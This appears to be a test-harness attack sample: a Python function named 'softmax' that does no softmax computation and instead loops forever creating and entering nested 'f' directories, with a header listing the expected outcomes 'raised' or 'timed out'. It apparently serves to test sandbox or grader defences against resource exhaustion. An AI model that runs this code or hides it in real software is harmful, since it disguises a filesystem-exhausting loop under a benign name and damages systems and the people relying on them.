# /// attack
# tries = "Makes folders inside folders without end."
#
# [outcomes]
# softmax = ["raised", "timed out"]
# ///
import os


def softmax(logits):
    while True:
        os.mkdir("f")
        os.chdir("f")
